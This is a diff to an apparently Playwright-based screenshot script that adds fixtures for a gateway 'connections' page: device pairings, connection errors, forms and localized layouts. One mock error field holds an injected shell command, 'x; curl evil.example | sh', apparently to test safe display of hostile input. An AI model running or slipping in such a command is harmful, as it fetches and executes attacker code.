@@ -39,7 +39,7 @@ async function main(name, page, options, then) {
   await shot(name, tab);
 }
 
-const PAGES = ['inbox', 'allowlist', 'rules', 'policy', 'history', 'settings'];
+const PAGES = ['inbox', 'allowlist', 'rules', 'policy', 'history', 'connections', 'settings'];
 
 /** What makes a page show more of itself. */
 const THEN = {
@@ -58,6 +58,70 @@ const THEN = {
     await tab.check(`${at('switch-ask')} [value="on-miss"]`);
   },
 };
+
+/** Changes what there is about gateways, and waits until the page shows it. */
+async function connections(tab, change) {
+  await tab.waitForSelector(at('own'));
+  await tab.evaluate(change);
+  await tab.evaluate(() => window.mock.emit({ kind: 'connections-changed' }));
+}
+
+/** Devices that wait, one of them with hostile words. */
+async function devices(tab) {
+  await connections(tab, () => {
+    const { pairing, hostilePairing } = window.connections;
+    window.mock.gateways.embedded.waiting = [pairing('p-1', Date.now()), hostilePairing('p-2', Date.now())];
+  });
+  if (tab.viewportSize().width < 400) return;
+  await tab.waitForSelector(`${at('pairing-let-in')}[data-armed="true"]`);
+}
+
+/** Every problem that a connection can have. */
+async function problems(tab) {
+  await connections(tab, () => {
+    const { gateway, hex } = window.connections;
+    const text = 'connect ECONNREFUSED 10.20.0.14:18789';
+    const found = [
+      { kind: 'unreachable', text },
+      { kind: 'timed-out' },
+      { kind: 'closed', code: 1012, text: 'service restart' },
+      { kind: 'secret-missing' },
+      { kind: 'rate-limited' },
+      { kind: 'not-paired', reason: 'scope-upgrade', requestId: 'x; curl evil.example | sh' },
+      { kind: 'protocol', expected: 5 },
+      { kind: 'pin-mismatch', found: hex('other') },
+      { kind: 'refused', code: 'INVALID_REQUEST', text: 'long words '.repeat(120) },
+    ];
+    const state = (problem, index) =>
+      index % 2 ? { kind: 'stopped', problem } : { kind: 'waiting', problem, retryAtMs: Date.now() + 9_000 };
+    window.mock.gateways.gateways = found.map((problem, index) =>
+      gateway(`gateway-${problem.kind}`, { pin: hex('harbor'), state: state(problem, index) }),
+    );
+    const link = { version: '2026.2.26', protocol: 3, sinceMs: Date.now() - 60_000, scopes: ['operator.read'] };
+    const gaps = [{ kind: 'no-approvals' }, { kind: 'no-list' }];
+    window.mock.gateways.gateways.unshift(gateway('gaps', { state: { kind: 'connected', link: { ...link, gaps } } }));
+  });
+  await tab.waitForSelector(`${at('remedy')}[data-kind="refused"]`);
+  await tab.locator(at('gateway')).first().scrollIntoViewIfNeeded();
+}
+
+async function form(tab) {
+  await tab.waitForSelector(at('own'));
+  await tab.locator(at('gateway-edit')).nth(1).click();
+  await tab.check(at('gateway-secret-set'));
+}
+
+/** Waits until gateways can be told apart in the list. */
+async function many(tab) {
+  await tab.evaluate(() => {
+    const cards = window.cards;
+    const now = Date.now();
+    window.mock.cards = [cards.hostilePlugin('h', now), cards.plugin('p', now), ...cards.many(10_000, 10, now)];
+    window.mock.skip();
+    window.mock.emit({ kind: 'connections-changed' });
+  });
+  await tab.waitForSelector(`h1:has-text("10002")`);
+}
 
 /** Opens the sheet, picks a rung, and waits until it can be stored. */
 function sheet(rung) {
@@ -100,6 +164,38 @@ for (const theme of ['light', 'dark']) {
     await main(`${page}-${theme}`, page, { theme }, THEN[page]);
   }
 }
+for (const [name, size] of [
+  ['light', {}],
+  ['dark', { theme: 'dark' }],
+  ['360x300', { width: 360, height: 300 }],
+  ['large', { width: 1600, height: 1400 }],
+  ['ko', { language: 'ko', height: 1400 }],
+  ['zh', { language: 'zh', height: 1400 }],
+]) {
+  await main(`connections-devices-${name}`, 'connections', size, devices);
+  await main(`connections-problems-${name}`, 'connections', { height: 1800, ...size }, problems);
+  await main(`connections-form-${name}`, 'connections', size, form);
+  await main(`inbox-many-${name}`, 'inbox', size, many);
+}
+await main('connections-empty', 'connections', {}, (tab) =>
+  connections(tab, () => {
+    const { embedded } = window.mock.gateways;
+    window.mock.gateways.gateways = [];
+    window.mock.gateways.embedded = { ...embedded, state: { kind: 'failed', problem: 'address in use' }, devices: [] };
+  }),
+);
+for (const theme of ['light', 'dark']) {
+  await prompt(`prompt-foreign-${theme}`, ['foreign'], { theme }, armed);
+  await prompt(`prompt-plugin-${theme}`, ['plugin'], { theme }, armed);
+  await prompt(`prompt-plugin-hostile-${theme}`, ['hostilePlugin'], { theme });
+  await prompt(`prompt-foreign-360x300-${theme}`, ['foreign'], { theme, width: 360, height: 300 });
+  await prompt(`prompt-plugin-hostile-360x300-${theme}`, ['hostilePlugin'], { theme, width: 360, height: 300 });
+  await prompt(`prompt-foreign-sheet-${theme}`, ['foreign'], { theme }, (tab) => tab.click(at('allow-more')));
+}
+await prompt('prompt-foreign-sheet-360x300', ['foreign'], { width: 360, height: 300 }, (tab) =>
+  tab.click(at('allow-more')),
+);
+await prompt('prompt-plugin-ko', ['plugin'], { language: 'ko' }, armed);
 for (const page of PAGES) {
   await main(`${page}-720x480`, page, { width: 720, height: 480 });
   await main(`${page}-ko`, page, { language: 'ko' });
